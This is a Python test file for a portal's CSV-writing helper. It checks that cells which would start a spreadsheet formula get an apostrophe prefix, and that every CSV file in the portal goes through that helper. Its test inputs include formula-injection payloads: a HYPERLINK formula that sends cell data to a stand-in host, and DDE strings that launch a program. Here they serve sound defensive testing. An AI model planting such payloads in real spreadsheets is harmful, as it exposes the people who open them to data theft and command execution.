"""portal/lib/csvsafe.py: no CSV cell the portal writes starts a spreadsheet formula."""

from __future__ import annotations

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from portal.lib import csvsafe


def _written(rows: list[dict[str, Any]], *, one_by_one: bool = False) -> list[dict[str, str]]:
    out = io.StringIO()
    writer = csvsafe.DictWriter(out, fieldnames=["a", "b"])
    writer.writeheader()
    if one_by_one:
        for row in rows:
            writer.writerow(row)
    else:
        writer.writerows(rows)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=",
    ],
)
@pytest.mark.parametrize("one_by_one", [False, True])
def test_it_quotes_text_that_would_start_a_formula(text: str, one_by_one: bool) -> None:
    [row] = _written([{"a": text, "b": "vanlig text"}], one_by_one=one_by_one)
    assert row == {"a": "'" + text, "b": "vanlig text"}


def test_it_leaves_other_text_as_it_is() -> None:
    texts = ["Åsa", "a=1+1", " =1+1", "'=1+1", "2024-05-01", "", "\n=1", '"=1+1"']
    rows = _written([{"a": t, "b": t} for t in texts])
    assert [r["a"] for r in rows] == texts


def test_it_leaves_numbers_as_numbers() -> None:
    rows = _written([{"a": -1.5, "b": Decimal("-3")}, {"a": -2, "b": None}, {"a": 0, "b": 7}])
    assert [(r["a"], r["b"]) for r in rows] == [("-1.5", "-3"), ("-2", ""), ("0", "7")]


def test_a_number_written_as_text_is_text() -> None:
    # Only the portal's own numbers are exempt: a resident's "-5" is text like any other.
    assert _written([{"a": "-5", "b": "+46 8 123"}]) == [{"a": "'-5", "b": "'+46 8 123"}]


def test_it_quotes_any_value_by_its_text() -> None:
    class Label:
        def __str__(self) -> str:
            return "=1+1"

    assert csvsafe.cell(Label()) == "'=1+1"
    assert csvsafe.cell(True) is True  # a bool is an int: the caller decides how to write it


def test_the_header_is_written_unchanged() -> None:
    out = io.StringIO()
    csvsafe.DictWriter(out, fieldnames=["id", "text"]).writeheader()
    assert out.getvalue() == "id,text\r\n"


def test_every_csv_file_of_the_portal_is_written_through_it() -> None:
    # Every module outside the tests and the virtualenv: no other place builds a csv writer.
    root = Path(__file__).resolve().parents[2]
    dirs = [d for d in root.iterdir() if d.is_dir() and d.name not in {"tests", ".venv"}]
    paths = [p for d in dirs if not d.name.startswith(".") for p in d.rglob("*.py")]
    writers = []
    for path in paths:
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                writers.append(f"{path.relative_to(root)}:{node.lineno}")
    assert len(paths) > 50
    assert [w.partition(":")[0] for w in writers] == ["portal/lib/csvsafe.py"], writers
